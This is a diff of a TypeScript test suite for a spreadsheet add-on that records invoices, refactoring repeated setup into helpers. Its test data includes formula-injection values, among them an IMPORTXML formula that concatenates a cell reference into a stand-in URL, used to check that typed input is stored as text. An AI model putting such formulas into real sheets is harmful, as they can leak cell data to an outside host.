@@ -22,6 +22,27 @@ const KEYWORDS = 'accountDesk:timeZone=Europe/Moscow;locale=ru_RU';
 /** Names a client or an AM may well type, each of which Sheets would parse if written as is. */
 const LOOKALIKES = ['=IMPORTXML("http://x"&B12)', '0012', '07.12.2026', '20%'];
 
+/** The local runtime on `file` as of 07.12.2026, its output beside the test's folder. */
+function openRuntime(file: string, dir: string) {
+  return createLocalRuntime({ file, outDir: join(dir, 'out'), today: '2026-12-07', distDir: DIST });
+}
+
+/** What the add-document form sends for an incoming invoice of 1 000 ₽ dated 07.12, due 17.12. */
+function invoiceForm(number: string, counterparty: string, clientEmail: string) {
+  return {
+    type: 'invoice',
+    number,
+    counterparty,
+    direction: 'incoming',
+    contract: '',
+    date: '2026-12-07',
+    amount: '1 000',
+    dueDate: '2026-12-17',
+    clientEmail,
+    manager: '',
+  };
+}
+
 function addDocuments(workbook: ExcelJS.Workbook, docs: Doc[]): ExcelJS.Worksheet {
   const ws = workbook.addWorksheet('Документы');
   ws.addRow([...DOC_HEADER]);
@@ -78,12 +99,7 @@ describe('a sheet is grown before the add-on writes past its grid', () => {
   it('recalculates a 60-week load plan into a summary 66 columns wide', async () => {
     const dir = fresh();
     const file = await loadWorkbook(dir, 60, ['Клиент А']);
-    const runtime = await createLocalRuntime({
-      file,
-      outDir: join(dir, 'out'),
-      today: '2026-12-07',
-      distDir: DIST,
-    });
+    const runtime = await openRuntime(file, dir);
     runtime.call('recalculate');
     await runtime.save();
     expect(runtime.ui.alerts).toEqual([]);
@@ -151,25 +167,12 @@ describe('a sheet is grown before the add-on writes past its grid', () => {
       ws.addRow(DOC_HEADER.map((column) => doc[column] ?? null));
     }
     const file = await save(workbook, dir, 'full');
-    const runtime = await createLocalRuntime({
-      file,
-      outDir: join(dir, 'out'),
-      today: '2026-12-07',
-      distDir: DIST,
-    });
+    const runtime = await openRuntime(file, dir);
     // The form writes its row, then recalculates: the owned columns come with it.
-    const result = runtime.call('addDocument', {
-      type: 'invoice',
-      number: 'С-1000',
-      counterparty: 'Клиент 1000',
-      direction: 'incoming',
-      contract: '',
-      date: '2026-12-07',
-      amount: '1 000',
-      dueDate: '2026-12-17',
-      clientEmail: 'c1000@client.example',
-      manager: '',
-    }) as { ok: boolean };
+    const result = runtime.call(
+      'addDocument',
+      invoiceForm('С-1000', 'Клиент 1000', 'c1000@client.example'),
+    ) as { ok: boolean };
     await runtime.save();
     expect(runtime.ui.alerts).toEqual([]);
     expect(result.ok).toBe(true);
@@ -191,24 +194,10 @@ describe('what users and clients typed is written as text', () => {
     workbook.addWorksheet('Команда').addRows(TEAM);
     addDocuments(workbook, [invoice('С-1', 'ООО «Ромашка»', '20.12.2026', 'buh@romashka.example')]);
     const file = await save(workbook, dir, 'docs');
-    const runtime = await createLocalRuntime({
-      file,
-      outDir: join(dir, 'out'),
-      today: '2026-12-07',
-      distDir: DIST,
-    });
-    const result = runtime.call('addDocument', {
-      type: 'invoice',
-      number: '0012',
-      counterparty: '=1+1',
-      direction: 'incoming',
-      contract: '',
-      date: '2026-12-07',
-      amount: '1 000',
-      dueDate: '2026-12-17',
-      clientEmail: 'buh@example.com',
-      manager: '',
-    }) as { ok: boolean };
+    const runtime = await openRuntime(file, dir);
+    const result = runtime.call('addDocument', invoiceForm('0012', '=1+1', 'buh@example.com')) as {
+      ok: boolean;
+    };
     await runtime.save();
     expect(result.ok).toBe(true);
     const row = (await output(runtime.documentPath)).getWorksheet('Документы')!.getRow(3);
@@ -326,12 +315,7 @@ describe('a write past Google Sheets’ limits', () => {
     const archive = workbook.addWorksheet('Архив');
     archive.getCell(382_230, 26).fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFEEEEEE' } };
     const file = await save(workbook, dir, 'full');
-    const runtime = await createLocalRuntime({
-      file,
-      outDir: join(dir, 'out'),
-      today: '2026-12-07',
-      distDir: DIST,
-    });
+    const runtime = await openRuntime(file, dir);
     runtime.call('recalculate');
     expect(JSON.stringify(runtime.ui.alerts)).toMatch(
       /«Дебиторка» нельзя расширить: в таблице было бы больше 10 000 000 ячеек/,
